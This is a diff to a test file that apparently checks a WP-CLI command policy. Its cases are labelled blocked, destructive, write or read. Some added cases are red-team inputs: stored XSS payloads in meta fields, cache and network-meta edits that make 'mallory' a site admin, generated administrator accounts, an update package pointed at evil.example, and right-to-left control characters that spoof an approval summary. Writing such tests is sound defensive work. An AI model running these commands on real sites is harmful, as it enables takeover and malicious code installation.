@@ -11,12 +11,15 @@ POLICY = CommandPolicy()
 B, D, W, R = PolicyCategory.BLOCKED, PolicyCategory.DESTRUCTIVE, PolicyCategory.WRITE, PolicyCategory.READ
 
 CASES = [
-    # search-replace: only a bare --dry-run is a dry run; --log/--callback/export/wildcards never run
+    # search-replace: only a bare --dry-run is a dry run; a value on a flag is refused (PHP reads "0" and ""
+    # as off: a summary would say "dry run" for a real replace); --log/--callback/export/wildcards never run
     (
         "search-replace 'http://example.com' 'https://evil.example' wp_posts --include-columns=post_content --dry-run=0",
-        D,
+        B,
     ),
-    ("search-replace old new wp_posts --include-columns=post_content --dry-run=", D),
+    ("search-replace old new wp_posts --include-columns=post_content --dry-run=", B),
+    ("plugin update akismet --dry-run=0", B),
+    ("plugin update akismet --minor=0", B),
     ("search-replace old new wp_posts --include-columns=post_content --dry-run --no-dry-run", B),
     ("search-replace old new wp_posts --include-columns=post_content --dry-run", R),
     ("search-replace a b --dry-run --log=/var/www/html/wp-config.php", B),
@@ -106,6 +109,29 @@ CASES = [
     ("plugin verify-checksums --all", R),
     ("user update 3 --display_name='山田 太郎'", W),
     ("post update 45 --post_status=future --post_date='2026-11-23 09:00:00' --edit_date=1", W),
+    # issue 40's red team: values judged as WordPress stores them (JSON decoded, nested meta_input)
+    ("post meta update 5 foo '\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"' --format=json", D),
+    ("user meta update 2 description '\"\\u003cscript\\u003e\"' --format=json", D),
+    ('term meta update 3 note \'{"a":["\\u003cimg src=x onerror=alert(1)\\u003e"]}\' --format=json', D),
+    ('post update 5 --meta_input=\'{"foo":{"a":"<script>x</script>"}}\'', D),
+    ('post meta update 5 foo \'{"a":"plain"}\' --format=json', W),
+    # … the object cache, generated accounts, rendering, update offers, signups, network admins
+    ("cache patch insert 1:site_admins 1 mallory --group=site-options", B),
+    ("cache set alloptions x options", B),
+    ("cache delete my_key my_group", D),
+    ("user generate --count=1 --role=administrator", B),
+    ("post block render 5", D),
+    ("post block export 5 --format=html", B),
+    ("post block export 5 --format=json", R),
+    (
+        "transient patch update update_plugins response akismet/akismet.php package https://evil.example/x.zip --network",
+        B,
+    ),
+    ("site option patch update _site_transient_update_plugins response x y", B),
+    ("user signup list --field=0", B),
+    ("user signup get 3 --fields=0", B),
+    ("network meta update 1 site_admins '[\"mallory\"]' --format=json", B),
+    ("ability can-run core/get-site-info --input=x", D),
     # invisible controls that could spoof an approval summary
     ("post update 5 --post_title='\u202e1 tsop'", B),
     ("post list \x9b", B),
